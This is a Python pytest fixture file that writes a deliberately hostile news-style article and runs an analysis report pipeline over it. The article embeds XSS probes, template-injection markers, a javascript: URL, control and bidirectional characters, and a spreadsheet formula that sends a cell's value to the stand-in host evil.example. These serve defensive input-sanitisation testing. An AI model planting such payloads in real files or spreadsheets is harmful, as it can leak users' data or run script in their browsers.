"""One run of reports for all the tests that look at them: the seed, and an article that means harm."""

from __future__ import annotations

from pathlib import Path

import pytest

ROOT = Path(__file__).parents[2]
SEED = ROOT / "seeds" / "solid_will.txt"
HOSTILE = (
    '---\ntitle: <script>alert(1)</script> {{ 7*7 }} =1+1\noutlet: "=HYPERLINK(1)"\npublished: 2024-05-01\n'
    "url: javascript:alert(1)\n---\n"
    '=HYPERLINK("http://evil.example/?x="&A1) said the army on Tuesday that its troops killed 12 gunmen in Mosul.\n\n'
    'The army <script>alert("x")</script> said that <img src=x onerror=alert(1)> militants {{ 7*7 }} {% raw %} '
    "destroyed $x^2$ two bridges in Rutba.\n\n"
    'Colonel "<b>Bold</b>" Hassan \u202eسلمان\u202c said: "The \u200fforces\u200e of ]]>--> </style></mark></p>'
    "<h1>Fake</h1> the Iraqi army seized three @SUM(1+1) vehicles in Baghdad.\n\n"
    "He added that -2+3 civilians were wounded by \x01\x02\x0b\x7f a roadside bomb \ufffe\U0001f4a3 near Kirkuk, and "
    "`code` [link](http://evil.example) **md** &amp; &lt;i&gt; 'quoted'.\n\n"
    + "x" * 200_000
    + "\n\nThe army denied it.\n"
)


@pytest.fixture(scope="session")
def hostile_text() -> str:
    return HOSTILE


@pytest.fixture(scope="session")
def reports(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The folder with the reports `solid_will` and `hostile`."""
    from analysis.run.report import write_reports

    folder = tmp_path_factory.mktemp("reports")
    source = folder / "hostile.md"
    source.write_text(HOSTILE, encoding="utf-8")
    assert write_reports([SEED, source], folder / "out", quiet=True) == []
    return folder / "out"
